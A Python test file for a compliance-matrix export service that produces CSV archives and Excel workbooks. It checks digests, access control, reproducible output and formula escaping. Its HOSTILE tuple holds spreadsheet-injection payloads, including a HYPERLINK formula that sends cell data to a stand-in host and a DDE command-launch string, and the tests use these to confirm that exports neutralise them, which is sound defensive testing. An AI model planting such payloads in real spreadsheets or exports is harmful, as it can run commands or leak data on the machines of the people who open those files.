"""The matrix as files: the same bytes for the same position, digests that can be recomputed, nothing that runs."""

import csv
import io
from collections.abc import Mapping
from hashlib import sha256
from typing import Any
from urllib.parse import parse_qs
from zipfile import ZipFile

import openpyxl
import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from catalog.errors import UnauthenticatedError
from catalog.principal import Principal, Scope
from policies.compliance.http import ComplianceDoor, compliance_routes
from policies.compliance.matrix import Matrix
from policies.compliance.table import COLUMNS, rfc4180
from policies.judge import Judge
from tests.ingest.events import model, versioned, whole_run
from tests.policies.office import (
    ANN,
    BOB,
    DAY,
    ENVIRONMENT,
    PACK,
    REGISTRY,
    TRAINING,
    Office,
    binding,
    control,
    pack,
    person,
)

HOSTILE = (
    '=HYPERLINK("https://evil.example?"&A1)',
    "\u3000＝1+1",
    "\ufeff=cmd|' /C calc'!A0",
    'semi;colon,"quoted"\r\nsecond line',
    "\u202egnp.elif",
    "_x0041_ escaped",
    "n" * 9_000,
)
STRANGER = person("stranger", namespaces=["elsewhere*"])
READER = person("reader", scopes=[Scope.LINEAGE_READ])
PEOPLE = {each.name: each for each in (ANN, STRANGER, READER)}
CONTROLS = [
    control("licence"),
    control("odd", requires=[{"expression": "has(subject.owner)", "missing": "=1+1"}], severity="low"),
]


def principal_of(headers: Mapping[str, str]) -> Principal:
    found = PEOPLE.get(headers.get("authorization", ""))
    if found is None:
        raise UnauthenticatedError("Nobody is known by that.", "Send a key.")
    return found


class Desk:
    """The door over an office with names of all sorts."""

    def __init__(self) -> None:
        trained = [
            whole_run(
                f"train {number}",
                10 + number,
                10.5 + number,
                reads=[versioned("applications", "a1")],
                writes=[model(name, "1")],
            )
            for number, name in enumerate(HOSTILE)
        ]
        self.office = Office([*TRAINING, *(each for run in trained for each in run)])
        self.office.enact(pack(controls=CONTROLS), binding())
        self.office.waive(ANN, "licence", "2", reason="=waived()")
        self.office.waive(BOB, "licence", "2")
        self.door = ComplianceDoor(
            Matrix(self.office.access, Judge(), lambda: self.office.now),
            self.office.access,
            lambda size: sha256(b"%d" % size).digest(),
            principal_of,
        )
        self.client = TestClient(Starlette(routes=compliance_routes(self.door)))

    def ask(self, form: str, query: str = "", who: str = ANN.name, **parameters: Any) -> Any:
        told = parse_qs(query) if query else {"pack": PACK, "environment": ENVIRONMENT, **parameters}
        return self.client.get(f"/api/v1/compliance.{form}", params=told, headers={"authorization": who})


@pytest.fixture(scope="module")
def desk() -> Desk:
    return Desk()


@pytest.fixture(scope="module")
def archive(desk: Desk) -> bytes:
    return file(desk, "csv.zip")


def file(desk: Desk, form: str, query: str = "", **parameters: Any) -> bytes:
    answer = desk.ask(form, query, **parameters)
    assert answer.status_code == 200, answer.text
    return bytes(answer.content)


def unpacked(archive: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def cover(archive: bytes) -> dict[str, str]:
    return {line[0]: line[1] for line in rows(unpacked(archive)["cover.csv"])}


def query(archive: bytes) -> str:
    return cover(archive)["query"].partition("?")[2]


def verdicts(archive: bytes) -> list[dict[str, str]]:
    head, *lines = rows(unpacked(archive)["verdicts.csv"])
    return [dict(zip(head, line, strict=True)) for line in lines]


def sheet(book: openpyxl.Workbook, name: str) -> list[list[str]]:
    """Cells of a sheet, none of them a formula."""
    found = list(book[name].iter_rows())
    assert {cell.data_type for row in found for cell in row} <= {"s", "n"}
    assert not any(cell.hyperlink for row in found for cell in row)
    return [["" if cell.value is None else str(cell.value) for cell in row] for row in found]


def test_every_model_has_a_line_for_every_control(archive: bytes) -> None:
    said = verdicts(archive)
    assert {each["control"] for each in said} == {"licence", "odd"}
    assert len(said) == 2 * (len(HOSTILE) + 1)
    waived = next(each for each in said if each["model"] == "credit" and each["control"] == "licence")
    assert (waived["version"], waived["verdict"], waived["withoutWaivers"]) == ("2", "waived", "unknown")
    assert waived["remediation"] == "Name an owner."
    assert waived["address"] == f"/lineage?of={waived['versionId']}"


def test_the_cover_tells_what_was_asked_and_counts(desk: Desk) -> None:
    archive = file(desk, "csv.zip", verdict="unknown", severity="high")
    told, said = cover(archive), verdicts(archive)
    assert told["pack"] == f"{PACK}@1.0.0"
    assert told["as of: log size"] == str(len(desk.office.entries))
    assert told["asked by"] == ANN.name
    assert (told["filter: verdicts"], told["filter: severities"]) == ("unknown", "high")
    assert told["rows"] == str(len(said)) == told["rows: unknown"] == str(len(HOSTILE))
    assert int(told["verdicts left out by the filter"]) + len(said) == 2 * (len(HOSTILE) + 1)
    assert {(each["verdict"], each["severity"]) for each in said} == {("unknown", "high")}


def test_the_digest_is_that_of_the_rows_and_the_manifest_that_of_the_files(archive: bytes) -> None:
    files = unpacked(archive)
    assert cover(archive)["digest of the rows"] == f"sha256:{sha256(files['verdicts.csv']).hexdigest()}"
    listed = {line[66:]: line[:64] for line in files["MANIFEST.sha256"].decode().splitlines()}
    assert listed == {name: sha256(files[name]).hexdigest() for name in files if name != "MANIFEST.sha256"}


def test_a_workbook_holds_the_same_rows_under_the_same_digest(desk: Desk, archive: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(file(desk, "xlsx", query(archive))))
    assert book.sheetnames == ["Cover", "Verdicts", "Matrix", "Waivers"]
    told = dict(sheet(book, "Cover"))
    head, *lines = sheet(book, "Verdicts")
    assert tuple(head) == COLUMNS
    assert f"sha256:{sha256(rfc4180(head, lines)).hexdigest()}" == told["digest of the rows"]
    assert told == {name: value for name, value in cover(archive).items() if name != "name"}
    assert len(sheet(book, "Matrix")) == 1 + len(HOSTILE) + 1
    assert sheet(book, "Waivers") == rows(unpacked(archive)["waivers.csv"])


def test_the_query_of_the_cover_gives_the_same_bytes_whatever_came_since() -> None:
    desk = Desk()
    first = file(desk, "csv.zip")
    book = file(desk, "xlsx", query(first))
    desk.office.wait(DAY)
    desk.office.tell(whole_run("later", 99, 100, writes=[model("later", "1")]))
    desk.office.attest(ANN, "inventory", statement={"owner": "team:credit"})
    assert file(desk, "csv.zip", query(first)) == first
    assert file(desk, "xlsx", query(first)) == book
    assert file(desk, "csv.zip") != first


def test_names_are_one_line_and_no_formula(archive: bytes) -> None:
    for name, content in unpacked(archive).items():
        if name.endswith(".csv"):
            assert content.count(b"\r\n") == len(rows(content))
            assert not any(
                cell.lstrip()[:1] in tuple("=+-@\t") for row in rows(content) for cell in row if cell.strip()
            )
    said = {each["model"] for each in verdicts(archive)}
    assert '\'=HYPERLINK("https://evil.example?"&A1)' in said
    assert 'semi;colon,"quoted"\\r\\nsecond line' in said
    assert {each["why"] for each in verdicts(archive) if each["control"] == "odd"} == {"'=1+1"}


def test_all_versions_and_one_model(desk: Desk) -> None:
    said = verdicts(file(desk, "csv.zip", latest="false", name="CRED", control="odd"))
    assert [(each["model"], each["version"]) for each in said] == [("credit", "2"), ("credit", "1")]
    assert {each["namespace"] for each in said} == {REGISTRY}


def test_only_what_the_caller_may_judge_is_told(desk: Desk) -> None:
    stranger = desk.ask("csv.zip", who=STRANGER.name)
    assert (stranger.status_code, verdicts(stranger.content)) == (200, [])
    assert cover(stranger.content)["models"] == "0"
    assert desk.ask("csv.zip", who=READER.name).status_code == 403
    nobody = desk.ask("xlsx", who="nobody")
    assert (nobody.status_code, nobody.headers["www-authenticate"]) == (401, 'Bearer realm="lineward"')


@pytest.mark.parametrize(
    ("parameters", "status", "pointer"),
    [
        ({"pack": ""}, 400, "/pack"),
        ({"verdict": "maybe"}, 400, "/verdict"),
        ({"known": "many"}, 400, "/known"),
        ({"known": "9" * 40}, 400, "/known"),
        ({"evaluatedAt": "yesterday"}, 400, "/evaluatedAt"),
        ({"latest": "perhaps"}, 400, "/latest"),
        ({"pakc": "x"}, 400, "/pakc"),
        ({"pack": ["a", "b"]}, 400, "/pack"),
        ({"pack": "nothing"}, 404, ""),
    ],
)
def test_a_question_that_means_nothing_is_refused_with_what_to_do(
    desk: Desk, parameters: dict[str, Any], status: int, pointer: str
) -> None:
    answer = desk.ask("csv.zip", **parameters)
    assert (answer.status_code, answer.json()["error"]["pointer"]) == (status, pointer)


def test_one_file_is_made_at_a_time() -> None:
    desk = Desk()
    with desk.door.alone():
        busy = desk.ask("xlsx")
    assert (busy.status_code, busy.headers["retry-after"]) == (503, "1")
    assert desk.ask("xlsx", name="credit").status_code == 200
